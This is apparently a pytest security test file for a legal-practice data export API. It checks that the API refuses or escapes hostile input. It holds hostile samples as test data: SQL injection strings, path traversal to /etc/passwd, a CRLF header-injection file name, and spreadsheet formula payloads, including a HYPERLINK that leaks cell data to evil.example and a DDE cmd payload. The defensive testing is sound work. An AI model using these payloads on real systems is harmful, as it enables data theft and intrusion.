"""Hostile input: SQL-looking and oversized filters, path-like file names, formula payloads."""

from __future__ import annotations

from typing import Any

import httpx
import pytest
from sqlalchemy import String, Text, func, literal, select, update

from smarter_export.domain.database import make_engine
from smarter_export.domain.tables import metadata
from smarter_export.formats.safety import FORMULA_TRIGGERS
from tests.live import LiveFactory, LiveService
from tests.readers import csv_tables, xlsx_sheets
from tests.security.conftest import Tally

SQL_PAYLOADS = (
    "' OR '1'='1",
    "1; DROP TABLE export_job; --",
    '") UNION SELECT password FROM users --',
    "00000000-0000-0000-0000-000000000000' OR 1=1 --",
)
FILTERS = {
    "matters": ("practiceAreaId", "clientId", "timekeeperId", "status", "dateFrom"),
    "time_entries": ("matterId", "clientId", "billableStatus", "dateTo"),
    "invoices": ("clientId", "status", "asOf"),
    "clients": ("timekeeperId", "type"),
    "timekeepers": ("practiceAreaId", "role"),
}


def row_counts(service: LiveService) -> dict[str, int]:
    """Rows of every table of the firm's data and of the exports (the grants of users seen
    are the service's own bookkeeping and grow with every new user)."""
    engine = make_engine(service.settings.resolved_database_url)
    try:
        with engine.connect() as connection:
            return {
                name: int(connection.execute(select(func.count()).select_from(table)).scalar_one())
                for name, table in metadata.tables.items()
                if name != "user_grant"
            }
    finally:
        engine.dispose()


def test_sql_looking_and_ill_typed_filter_values_name_the_field(
    shared_service: LiveService, hostile: Tally
) -> None:
    before = row_counts(shared_service)
    with shared_service.client(shared_service.token(user="injector")) as client:
        for source, names in FILTERS.items():
            for name in names:
                for value in (*SQL_PAYLOADS, {"$ne": None}, ["a", "b"], 10**30):
                    body = {"dataSource": source, name: value}
                    answer = client.post("/api/v1/export/csv", json=body)
                    error = hostile.refused_with(answer, 400, attack=f"{source}.{name}={value!r}")
                    assert name in {d["field"] for d in error["details"]}
            for field, value in (
                ("columns", "name; DROP TABLE matter"),
                ("sort", "name desc; --"),
                ("columns", ["name", "1=1"]),
            ):
                answer = client.post(
                    "/api/v1/export/csv", json={"dataSource": source, field: value}
                )
                error = hostile.refused_with(answer, 400, attack=f"{source}.{field}={value!r}")
                assert field in {d["field"] for d in error["details"]}
    assert row_counts(shared_service) == before  # nothing was written or dropped


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("clientId", "A" * 60_000),
        ("fileName", "B" * 60_000),
        ("timezone", "C" * 60_000),
        ("columns", ["name"] * 5_000),
    ],
)
def test_oversized_values_are_refused_by_name(
    shared_service: LiveService, hostile: Tally, field: str, value: Any
) -> None:
    with shared_service.client(shared_service.token(user="oversize")) as client:
        answer = client.post("/api/v1/export/csv", json={"dataSource": "matters", field: value})
    error = hostile.refused_with(answer, 400, 413, attack=f"oversized {field}")
    if answer.status_code == 400:
        assert field in {d["field"] for d in error["details"]}


@pytest.mark.parametrize(
    "name",
    [
        "../../../../etc/passwd",
        "..\\..\\windows\\system32\\config",
        "/absolute/path/report",
        "report\r\nSet-Cookie: stolen=1",
        'quote"and;semicolon',
        "nul\x00byte",
    ],
)
def test_path_like_file_names_never_leave_the_firms_folder(
    shared_service: LiveService, name: str
) -> None:
    with shared_service.client(shared_service.token(user="paths")) as client:
        answer = client.post("/api/v1/export/csv", json={"dataSource": "clients", "fileName": name})
        assert answer.status_code == 202, answer.text
        export_id = answer.json()["data"]["exportId"]
        shared_service.wait_for(client, export_id, ("completed",))
        download = client.get(f"/api/v1/export/download/{export_id}")
    assert download.status_code == 200
    disposition = download.headers["content-disposition"]
    assert "/" not in disposition and "\\" not in disposition and "\r" not in disposition
    assert "set-cookie" not in {k.lower() for k in download.headers}
    firm = shared_service.firm().id
    stored = list((shared_service.data_dir / "files").rglob(f"*{export_id}*"))
    assert stored and all(
        p.is_relative_to(shared_service.data_dir / "files" / firm) for p in stored
    )


FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)
# Columns with a fixed vocabulary (the database's enumerations), keys and zones are not free text.
NOT_FREE_TEXT = {
    "id", "tenant_id", "status", "type", "role", "billing_type", "billable_status",
    "payment_method", "plan", "currency", "timezone", "subdomain",
}  # fmt: skip


def poison_every_text_column(service: LiveService) -> int:
    """Write a formula payload into every free-text column of every row of the demo firm."""
    firm = service.firm().id
    engine = make_engine(service.settings.resolved_database_url)
    poisoned = 0
    try:
        with engine.begin() as connection:
            for table in metadata.tables.values():
                # The firm's data only; the service's own tables hold no exported text.
                service_tables = ("export_", "user_", "schedule_", "webhook")
                if "tenant_id" not in table.c or table.name.startswith(service_tables):
                    continue
                columns = [
                    c
                    for c in table.c
                    if isinstance(c.type, String | Text)
                    and c.name not in NOT_FREE_TEXT
                    and not c.name.endswith("_id")
                ]
                # The row's id after the payload keeps unique columns (matter numbers) unique.
                values = {
                    c.name: literal(FORMULAS[i % len(FORMULAS)] + " ") + table.c.id
                    for i, c in enumerate(columns)
                }
                if values:
                    connection.execute(
                        update(table).where(table.c.tenant_id == firm).values(**values)
                    )
                    poisoned += len(values)
    finally:
        engine.dispose()
    return poisoned


def test_formula_payloads_in_every_text_column_are_neutralised(
    live: LiveFactory, hostile: Tally
) -> None:
    service = live("formulas")
    assert poison_every_text_column(service) >= 20
    service.start_api()
    token = service.token(permissions=("export:*", "matters:confidential"))
    with service.client(token) as client:
        sources = client.get("/api/v1/export/sources").json()["data"]
        requests = [
            (
                {"dataSource": source["name"], "columns": [c["name"] for c in source["columns"]]},
                {c["label"] for c in source["columns"] if c["type"] == "text"},
            )
            for source in sources
            if source["name"] != "analytics"
        ]
        # A metric's rows are labelled by the names of what they group: clients, matters, people.
        period = {"dateFrom": "2020-01-01", "dateTo": "2026-12-31"}
        requests += [
            ({"dataSource": "analytics", "metric": "realization", "groupBy": group, **period},
             {label})
            for group, label in (("client", "Client"), ("matter", "Matter"),
                                 ("timekeeper", "Timekeeper"), ("practice_area", "Practice area"))
        ]  # fmt: skip
        assert {body["dataSource"] for body, _ in requests} == {s["name"] for s in sources}
        for body, text_labels in requests:
            for format_name in ("csv", "excel"):
                answer = client.post(f"/api/v1/export/{format_name}", json=body)
                assert answer.status_code == 202, answer.text
                export_id = answer.json()["data"]["exportId"]
                done = service.wait_for(client, export_id, ("completed", "failed"))
                assert done["status"] == "completed", done
                content = httpx.get(str(done["downloadUrl"])).content
                hostile.tried += 1  # the payload-carrying export is the hostile request
                cells = (
                    _text_cells_csv(content, text_labels)
                    if format_name == "csv"
                    else _text_cells_xlsx(content, text_labels)
                )
                what = f"{body['dataSource']} {body.get('groupBy', '')} {format_name}"
                assert cells, f"no text cells in {what}"
                live_formulas = [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
                if live_formulas:
                    hostile.breaches.append(f"formula in {what}")
                assert not live_formulas, live_formulas[:5]
                # The payloads were there, and came out neutralised.
                assert any(c.startswith("'") and c[1:].startswith(FORMULA_TRIGGERS) for c in cells)
                hostile.refused += 1


def _text_cells_csv(content: bytes, labels: set[str]) -> list[str]:
    cells: list[str] = []
    for rows in csv_tables(content).values():
        header, *body = rows
        wanted = [i for i, name in enumerate(header) if name in labels]
        cells += [row[i] for row in body for i in wanted if row[i]]
    return cells


def _text_cells_xlsx(content: bytes, labels: set[str]) -> list[str]:
    cells: list[str] = []
    for name, rows in xlsx_sheets(content).items():
        if name == "Export info" or not rows:
            continue
        header, *body = rows
        wanted = [i for i, label in enumerate(header) if label in labels]
        cells += [str(row[i]) for row in body for i in wanted if i < len(row) and row[i]]
    return cells
